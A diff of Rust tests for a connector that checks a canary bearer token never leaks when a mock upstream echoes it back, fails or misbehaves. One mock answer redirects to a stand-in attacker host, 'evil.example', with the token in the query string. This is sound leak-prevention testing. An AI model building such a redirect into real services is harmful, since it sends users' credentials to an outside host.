@@ -3,6 +3,7 @@
 use std::fmt::Debug;
 use std::io::Write;
 use std::path::Path;
+use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex};
 
 use host_harness::contract::AccountStatus;
@@ -153,6 +154,7 @@ async fn the_token_is_in_one_header_and_nowhere_else() {
     let connector = connector().await;
     let options = with_canary(options(&tenant), &har);
     said.note(&options);
+    said.note(&StaticCredentials::new().with("api-token", CANARY));
     let connection = connector.connect(options).await.unwrap();
     said.note(&connector);
     live(&connection, &said).await;
@@ -181,7 +183,11 @@ async fn the_token_is_in_one_header_and_nowhere_else() {
 fn echo(request: &Request) -> String {
     let given = request.header("authorization").unwrap_or_default();
     let token = given.strip_prefix("Bearer ").unwrap_or_default();
-    let echoed = format!("x-request-id: {given}\r\nlocation: /{token}\r\netag: {token}\r\n");
+    let (half, other_half) = token.split_at(token.len() / 2);
+    let echoed = format!(
+        "x-request-id: {given}\r\nlocation: /{token}\r\netag: {token}\r\nset-cookie: s={token}\r\n\
+         x-half: {half}\r\nx-other-half: {other_half}\r\nwww-authenticate: {given}\r\n"
+    );
     let user = json!({
         "id": "1",
         "userName": ADA[0].1,
@@ -233,4 +239,55 @@ async fn an_upstream_that_echoes_the_request_gives_the_token_to_nobody() {
     clean("guest's memory", &memory, "[redacted]");
     clean("output", &said.text(), "[redacted]");
     clean("archive", &std::fs::read(&har).unwrap(), "[redacted]");
+}
+
+/// What the echo is wrapped in, one way after the other.
+fn failing_echo(request: &Request) -> String {
+    static COUNT: AtomicUsize = AtomicUsize::new(0);
+    let given = request.header("authorization").unwrap_or_default();
+    let page = format!("<html><pre>{}</pre></html>", request.head);
+    let error = |status| answer(status, &format!("x-echo: {given}\r\n"), &page);
+    match COUNT.fetch_add(1, Ordering::Relaxed) % 11 {
+        0 => error(500),
+        1 => error(503),
+        2 => error(401),
+        3 => error(404),
+        4 => answer(
+            302,
+            &format!("location: https://evil.example/?{given}\r\n"),
+            &page,
+        ),
+        5 => answer(200, "content-encoding: gzip\r\n", &page),
+        6 => answer(200, "", &page),
+        7 => answer(200, "", &format!("{{\"id\": 7, \"title\": \"{given}\"}}")),
+        // Cut in the middle, and no answer at all.
+        8 => format!("HTTP/1.1 200 X\r\ncontent-length: 9999\r\nx-echo: {given}\r\n\r\n{page}"),
+        9 => String::new(),
+        _ => format!("HTTP/1.1 {given}\r\n\r\n"),
+    }
+}
+
+#[tokio::test]
+async fn no_failure_gives_the_token_to_anybody() {
+    let (said, _listening) = listen();
+    let folder = tempfile::tempdir().unwrap();
+    let har = folder.path().join("trace.har");
+    let upstream = Upstream::start(failing_echo).await;
+    let mut options = ConnectionOptions::new().setting("instance-url", upstream.url());
+    options.network.allow_loopback_http = true;
+    options.limits.operation_time = std::time::Duration::from_secs(5);
+    let connection = connector()
+        .await
+        .connect(with_canary(options, &har))
+        .await
+        .unwrap();
+    for _ in 0..3 {
+        live(&connection, &said).await;
+    }
+    assert!(upstream.requests().len() > 22, "each answer came twice");
+    clean("output", &said.text(), "Failure");
+    clean("archive", &std::fs::read(&har).unwrap(), "[redacted]");
+    if let Some(memory) = connection.guest_memory().await {
+        clean("guest's memory", &memory, "instance-url");
+    }
 }
